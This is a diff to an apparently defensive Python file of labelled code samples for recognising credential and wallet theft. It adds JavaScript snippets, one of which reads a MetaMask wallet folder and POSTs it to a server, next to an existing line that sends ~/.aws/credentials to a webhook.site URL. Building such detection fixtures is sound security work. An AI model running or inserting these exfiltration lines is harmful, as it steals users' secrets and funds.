@@ -1789,6 +1789,8 @@ EXAMPLES.update(
                 "import pathlib, urllib.request\n"
                 "k = (pathlib.Path.home() / '.aws/credentials').read_bytes()\n"
                 "urllib.request.urlopen('https://webhook.site/abc', data=k)",
+                "const dir = path.join(appData, 'MetaMask');\n"
+                "await fetch(api + '/data', { method: 'POST', body: fs.readFileSync(dir) });",
             ),
             (
                 "import boto3\n# credentials come from ~/.aws/credentials\n"
@@ -1800,6 +1802,12 @@ EXAMPLES.update(
                 "import json, requests\n"
                 "cookies = json.load(open('state.json')).get('cookies', [])\n"
                 "requests.post('https://webhook.site/abc', json={'n': len(cookies)})",
+                "const accounts = [{ name: 'MetaMask', type: 'WALLET' }];\n"
+                "await fetch(api + '/data', { method: 'POST', body: JSON.stringify(accounts) });",
+                "const loginData = await login();\n"
+                "await fetch(api + '/s', { method: 'POST', body: JSON.stringify(loginData) });",
+                "const tip = 'Record trades like: MetaMask staked 2 ETH at 4.5% APY';\n"
+                "await fetch(api + '/data', { method: 'POST', body: JSON.stringify({ tip }) });",
             ),
         ),
         "printed-remote-rules": (
